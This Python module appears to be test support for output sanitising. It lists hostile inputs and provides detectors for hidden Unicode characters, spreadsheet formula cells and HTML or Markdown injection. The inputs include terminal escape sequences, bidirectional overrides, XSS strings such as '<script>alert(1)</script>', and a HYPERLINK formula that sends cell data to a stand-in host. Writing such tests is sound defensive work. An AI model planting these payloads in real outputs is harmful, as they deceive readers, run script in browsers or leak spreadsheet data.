"""The attack table: every text that would drive a terminal, deceive a reader, break a row or run as a formula, once.

`hidden`, `formulas` and `markup` find in an output what should not have come through. They go by what Unicode says of a
character, and not by the table of the code that they test.
"""

import re
import unicodedata
from collections.abc import Iterator

ATTACKS: dict[str, str] = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;title\x07",
    "address": "\x1b]8;;http://x.example\x1b\\click\x1b]8;;\x1b\\",
    "C1": "\x9b2J \x90 \x85 next line",
    "bell, backspace, delete": "\x07\x08\x7f",
    "null": "a\x00b",
    "carriage return alone": "all is well\rnot at all",
    "vertical tab, form feed": "one\x0btwo\x0cthree",
    "separators": "file\x1c group\x1d record\x1e unit\x1f line\u2028 paragraph\u2029 end",
    "overrides": "abc \u202edef\u202c \u202dghi\u202a\u202b",
    "isolates": "\u2066ghi\u2067\u2068\u2069",
    "marks": "\u200e\u200f\u061c",
    "zero-width": "a\u200bb\u2060c\ufeffd",
    "soft hyphen": "ex\u00adample",
    "tags": "hello\U000e0001\U000e0041\U000e0042\U000e007f",
    "selectors": "smile\ufe0f\U000e0101\U000e0102\U000e0150",
    "fillers": "name\u3164\uffa0\u115f\u1160\u17b4\u180e",
    "operators": "x\u2061\u2062\u2063\u2064\u206a\u206f\ufff9\ufffa\ufffb",
    "music and shorthand": "\U0001d173\U0001d17a\U0001bca0",
    "lone surrogates": "lone \ud800 and \udc00",
    "formula": '=HYPERLINK("http://x.example?"&A1)',
    "other formulas": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab before": "\t=1+1",
    "line end before": "\n=1+1",
    "spaces before": " \u00a0\u3000=1+1",
    "nothing seen before": "\u200b\u200d\ufeff=1+1",
    "wide": "＝1+1",
    "wide plus": "＋1",
    "wide minus": "－1",
    "wide at": "＠SUM",
    "small": "﹦1",
    "quoted": '"=1+1"',
    "apostrophes": "''=1+1",
    "row": "cell\tnext\nrow",
    "rich markup": "[link=http://x.example]y[/link] [bold red]z[/] :smile:",
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "quotes of HTML": "\"'><b onmouseover=alert(1)>",
    "link of Markdown": "[click](javascript:alert(1)) `code` | cell **bold** <http://x.example> &lt;",
    "percent": "%s %(x)s {0} \\n \\u0041",
    "long": "word " * 200,
}
_SEEN = frozenset({*range(0x600, 0x606), 0x6DD, 0x70F, 0x8E2, 0x890, 0x891, 0x110BD, 0x110CD})  # of category Cf, drawn
_SPELLING = frozenset({0x200C, 0x200D})
_FILLERS = frozenset({0x115F, 0x1160, 0x17B4, 0x17B5, 0x3164, 0xFFA0})
_SELECTORS = frozenset({*range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0)})
_LINES = frozenset("\t\n")


def hidden(text: str, *, allowed: frozenset[str] = _LINES) -> set[str]:
    """Return the characters of a text that nobody sees, or that drive what shows it, with their names.

    Args:
        text: an output.
        allowed: what is part of its layout.
    """
    return {f"U+{ord(each):04X}" for each in _hidden(text) if each not in allowed}


def formulas(table: str) -> list[str]:
    """Return the cells of a tab-separated table that a spreadsheet may run; numbers are none."""
    return [cell for line in table.splitlines() for cell in line.split("\t") if _is_formula(cell)]


def markup(text: str) -> list[str]:
    """Return the tags of attacks that stand in HTML or Markdown as such, and the links that stand so in Markdown."""
    links = [] if text.startswith("<!doctype html>") else re.findall(r"(?<!\\)\]\(javascript", text)
    return re.findall(r"(?<!\\)<(?:script|img|b |http)", text) + links


def _hidden(text: str) -> Iterator[str]:
    before = ""
    for each in text:
        code = ord(each)
        kind = unicodedata.category(each)
        if code in _SELECTORS:
            if ord(before or "\0") in _SELECTORS:
                yield each
        elif code in _FILLERS or (kind in {"Cc", "Cf", "Cs", "Zl", "Zp"} and code not in _SEEN | _SPELLING):
            yield each
        before = each


def _is_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        stripped = {*_hidden(cell), "\u200c", "\u200d", '"'}
        seen = "".join(each for each in cell if each not in stripped).strip()
        return unicodedata.normalize("NFKC", seen[:1]) in {"=", "+", "-", "@"}
    return False
